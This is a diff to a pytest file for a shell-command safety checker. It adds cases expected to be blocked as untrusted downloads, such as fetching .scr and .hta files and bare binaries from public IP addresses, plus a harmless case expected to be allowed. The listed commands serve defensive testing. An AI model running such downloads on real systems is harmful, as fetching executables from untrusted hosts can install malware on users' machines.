@@ -21,6 +21,8 @@ def assess(command: str):
     ("wget -q https://files.example.org/lib/libcrypto.so.3 -O /tmp/libcrypto.so.3", "block.shell.untrusted-source"),
     ("Invoke-WebRequest https://static.example.org/x/loader.node -OutFile loader.node",
      "block.shell.untrusted-source"),
+    ("curl -o statement.scr https://docs.example-share.net/statement.scr", "block.shell.untrusted-source"),
+    ("Invoke-WebRequest https://cdn.example.org/view.hta -OutFile view.hta", "block.shell.untrusted-source"),
     # a program with no extension, or a script, from a bare public address
     ("curl http://203.0.113.44/bins/agent -o agent", "block.shell.untrusted-source"),
     ("wget http://198.51.100.9/x86", "block.shell.untrusted-source"),
@@ -80,6 +82,7 @@ def test_payload_steps_ask(command: str, rule: str) -> None:
 @pytest.mark.parametrize("command", [
     "curl -L -o tool.tar.gz https://github.com/acme/tool/releases/download/v1.0/tool-linux.tar.gz",
     "curl -o data.json https://api.example.com/v1/items",
+    "curl -o index.html https://www.example.com/",
     "echo aGVsbG8= | base64 -d",
     "base64 -d payload.b64 > out.bin",
     "node -e \"require('./build/Release/addon.node')\"",
